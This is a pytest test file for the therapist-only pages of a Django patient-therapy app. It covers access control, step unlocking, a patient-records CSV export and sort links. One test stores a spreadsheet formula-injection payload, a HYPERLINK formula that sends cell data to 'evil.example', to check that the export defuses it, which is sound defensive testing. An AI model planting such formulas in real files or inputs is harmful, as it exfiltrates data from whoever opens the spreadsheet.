"""The therapist's pages: /therapist/… (staff in the Therapists group only)."""

import csv
import io
import re
import uuid
from datetime import timedelta

import pytest
from allauth.mfa.totp.internal.auth import TOTP

from accounts.groups import THERAPISTS
from courses.models import Enrollment, LessonProgress, LessonQuestion, StepUnlock
from tests.factories import NOW, TODAY, TOTP_SECRET, make_user, safety_answers
from therapy.journey.models import DiaryEntry, PracticeSession, Questionnaire, QuestionnaireResponse

pytestmark = pytest.mark.usefixtures("frozen")


@pytest.fixture
def question(alice, lessons):
    return LessonQuestion.objects.create(
        user=alice, lesson=lessons[0], text="Mag ik dit ook staand doen?"
    )


@pytest.fixture
def urls(alice, question):
    """Every therapist URL (about alice) with the method it is used with."""
    return [
        ("get", "/therapist/"),
        ("get", f"/therapist/patients/{alice.pk}/"),
        ("post", f"/therapist/patients/{alice.pk}/unlock/"),
        ("get", f"/therapist/patients/{alice.pk}/records.csv"),
        ("get", f"/therapist/questions/{question.pk}/"),
        ("get", "/therapist/invitations/"),
    ]


@pytest.fixture
def intern(db):
    """Staff, but not in the Therapists group."""
    return make_user("stagiair@example.com", is_staff=True)


@pytest.fixture
def superuser(db):
    user = make_user("beheer@example.com", is_staff=True, is_superuser=True)
    TOTP.activate(user, TOTP_SECRET)  # health data: two-factor for every staff user
    return user


def test_it_404s_every_page_for_a_patient(alice_client, urls):
    for method, url in urls:
        assert getattr(alice_client, method)(url).status_code == 404, url
    assert not StepUnlock.objects.exists()


def test_it_404s_every_page_for_staff_outside_the_therapists_group(client, intern, urls):
    client.force_login(intern)

    for method, url in urls:
        assert getattr(client, method)(url).status_code == 404, url
    assert not StepUnlock.objects.exists()


def test_it_sends_a_logged_out_visitor_to_the_login(client, urls):
    for method, url in urls:
        response = getattr(client, method)(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/accounts/login/?next=/therapist/"), url
    assert not StepUnlock.objects.exists()


def test_it_shows_every_page_to_the_therapist(therapist_client, urls):
    for method, url in urls:
        response = getattr(therapist_client, method)(url)
        assert response.status_code == (302 if method == "post" else 200), url


def test_it_shows_every_page_to_a_superuser(client, superuser, urls):
    client.force_login(superuser)

    for method, url in urls:
        response = getattr(client, method)(url)
        assert response.status_code == (302 if method == "post" else 200), url


def test_it_404s_a_therapist_in_the_group_whose_account_is_not_staff(client, alice, urls):
    # The group alone is not enough: only staff may see patients' data.
    from django.contrib.auth.models import Group

    outsider = make_user("buiten@example.com")
    outsider.groups.add(Group.objects.get(name=THERAPISTS))
    client.force_login(outsider)

    assert client.get("/therapist/").status_code == 404


# --- Patient detail -------------------------------------------------------------------


def test_it_shows_the_patient(therapist_client, alice, question):
    response = therapist_client.get(f"/therapist/patients/{alice.pk}/")

    assert response.context["patient"] == alice
    assert response.context["row"].user == alice
    assert response.context["questions"] == [question]


def test_it_404s_the_detail_of_a_staff_user(therapist_client, therapist, intern, superuser):
    for user in (therapist, intern, superuser):
        assert therapist_client.get(f"/therapist/patients/{user.pk}/").status_code == 404
        assert therapist_client.get(f"/therapist/patients/{user.pk}/records.csv").status_code == 404


def test_it_404s_an_unknown_patient(therapist_client, db):
    assert therapist_client.get("/therapist/patients/999999/").status_code == 404


def test_it_404s_an_unknown_question(therapist_client, db):
    assert therapist_client.get("/therapist/questions/999999/").status_code == 404


# --- Opening the next step ------------------------------------------------------------


def test_it_opens_the_next_locked_step(therapist_client, therapist, alice, lessons):
    response = therapist_client.post(f"/therapist/patients/{alice.pk}/unlock/")

    assert response.status_code == 302
    assert response["Location"] == f"/therapist/patients/{alice.pk}/"
    unlock = StepUnlock.objects.get()
    assert (unlock.user, unlock.step, unlock.unlocked_by) == (alice, lessons[2].step, therapist)
    assert lessons[2].is_unlocked_for(alice)


def test_it_opens_the_step_after_that_next_time(therapist_client, alice, lessons):
    for _ in range(3):
        therapist_client.post(f"/therapist/patients/{alice.pk}/unlock/")

    steps = [u.step for u in StepUnlock.objects.order_by("pk")]
    assert steps == [lessons[2].step, lessons[4].step]


def test_it_opens_the_step_she_is_waiting_for(therapist_client, alice, lessons):
    step_2 = lessons[2].step
    step_2.unlock_after_days = 14
    step_2.save()
    for lesson in lessons[:2]:
        LessonProgress.objects.create(
            user=alice, lesson=lesson, first_opened_at=NOW, completed_at=NOW
        )
    assert not lessons[2].is_unlocked_for(alice)

    therapist_client.post(f"/therapist/patients/{alice.pk}/unlock/")

    assert StepUnlock.objects.get().step == step_2
    assert lessons[2].is_unlocked_for(alice)


def test_it_opens_nothing_for_a_patient_without_a_course(therapist_client, bob):
    response = therapist_client.post(f"/therapist/patients/{bob.pk}/unlock/")

    assert response.status_code == 302
    assert not StepUnlock.objects.exists()


def test_it_refuses_get_on_unlock(therapist_client, alice):
    assert therapist_client.get(f"/therapist/patients/{alice.pk}/unlock/").status_code == 405
    assert not StepUnlock.objects.exists()


def test_it_404s_unlocking_for_a_staff_user(therapist_client, intern):
    assert therapist_client.post(f"/therapist/patients/{intern.pk}/unlock/").status_code == 404


# --- CSV ------------------------------------------------------------------------------


def _records(user, lessons, marker):
    PracticeSession.objects.create(
        user=user,
        exercise_name=f"{marker} oefening",
        idempotency_key=uuid.uuid4(),
        started_at=NOW - timedelta(hours=2),
        duration_seconds=300,
        repetitions_done=24,
        completed=True,
        feeling=4,
    )
    DiaryEntry.objects.create(
        user=user, date=TODAY, leaks=3, pads=2, urgency=1, back_pain=5, note=f"{marker} notitie"
    )
    questionnaire, _ = Questionnaire.objects.get_or_create(
        slug="lekcheck", defaults={"title": "Lekcheck", "published": True}
    )
    QuestionnaireResponse.objects.create(
        user=user, questionnaire=questionnaire, due_date=TODAY, total_score=7
    )
    LessonProgress.objects.create(
        user=user, lesson=lessons[0], first_opened_at=NOW - timedelta(days=1), completed_at=NOW
    )


def read_csv(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_it_downloads_her_records_as_csv(therapist_client, alice, bob, lessons):
    _records(alice, lessons, "ALICE")
    Enrollment.objects.create(user=bob, course=lessons[0].step.course)
    _records(bob, lessons, "BOB")

    response = therapist_client.get(f"/therapist/patients/{alice.pk}/records.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert f"patient-{alice.pk}-" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    header, *rows = read_csv(response)
    assert header == ["record", "date", "item", "value", "detail"]
    assert sorted(row[0] for row in rows) == ["diary", "lesson", "practice", "questionnaire"]
    by_kind = {row[0]: row for row in rows}
    assert by_kind["practice"][2:4] == ["ALICE oefening", "24"]
    assert by_kind["diary"][1:] == [
        "2026-03-11",
        "leaks/pads/urgency/back_pain",
        "3/2/1/5",
        "ALICE notitie",
    ]
    assert by_kind["questionnaire"][2:4] == ["Lekcheck", "7"]
    assert by_kind["lesson"][2:4] == ["Les 1", "done"]
    assert "BOB" not in response.content.decode()


def test_it_downloads_a_header_only_for_a_patient_without_records(therapist_client, bob):
    response = therapist_client.get(f"/therapist/patients/{bob.pk}/records.csv")

    assert read_csv(response) == [["record", "date", "item", "value", "detail"]]


def test_it_defuses_formulas_in_the_csv(therapist_client, alice):
    # The file is made to open in Excel; a note starting with "=" must stay text there.
    DiaryEntry.objects.create(
        user=alice,
        date=TODAY,
        leaks=0,
        pads=0,
        urgency=0,
        back_pain=0,
        note='=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    )

    response = therapist_client.get(f"/therapist/patients/{alice.pk}/records.csv")

    _header, diary_row = read_csv(response)
    assert not diary_row[4].startswith(("=", "+", "-", "@"))
    assert "HYPERLINK" in diary_row[4]


# --- Answering a question -------------------------------------------------------------


def test_it_shows_the_question_to_answer(therapist_client, question):
    response = therapist_client.get(f"/therapist/questions/{question.pk}/")

    assert response.context["question"] == question
    assert "Mag ik dit ook staand doen?" in response.content.decode()


def test_it_refuses_put_on_a_question(therapist_client, question):
    assert therapist_client.put(f"/therapist/questions/{question.pk}/").status_code == 405


def test_it_lists_open_questions_on_the_overview(therapist_client, question):
    response = therapist_client.get("/therapist/")

    assert response.context["open_questions"] == [question]


def test_it_sends_a_therapist_without_two_factor_to_set_it_up(client, db):
    from django.contrib.auth.models import Group

    newcomer = make_user("nieuw@example.com", is_staff=True)
    newcomer.groups.add(Group.objects.get(name=THERAPISTS))
    client.force_login(newcomer)

    response = client.get("/therapist/")

    assert response.status_code == 302
    assert response["Location"] == "/accounts/2fa/totp/activate/"


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        # Each heading links to its own sort; the current one is marked and links to the
        # reverse. Done, back pain and signals start with the highest value; by default
        # the list is sorted by signals, most first.
        ("", {"name": "name", "done": "-done", "activity": "activity", "flags": "flags"}),
        ("name", {"name": "-name", "done": "-done", "pain": "-pain"}),
        ("-done", {"done": "done", "practice": "practice"}),
        ("-flags", {"flags": "flags", "name": "name"}),
    ],
)
def test_it_links_each_column_heading_to_its_sort(therapist_client, alice, sort, expected):
    safety_answers(alice, "blood_in_urine")  # a signal: she is on the "needs attention" list
    response = therapist_client.get(f"/therapist/?sort={sort}&filter=attention")

    html = response.content.decode()
    heads = re.findall(
        r'<th scope="col"([^>]*)>\s*<a href="\?sort=([\w-]+)&amp;filter=attention"', html
    )
    links = {href.lstrip("-"): href for _attrs, href in heads}
    assert len(links) == 6
    assert {key: links[key] for key in expected} == expected
    current = response.context["sort"]
    marked = [href.lstrip("-") for attrs, href in heads if "aria-sort" in attrs]
    assert marked == [current.lstrip("-")]
    direction = "descending" if current.startswith("-") else "ascending"
    assert f'aria-sort="{direction}"' in html
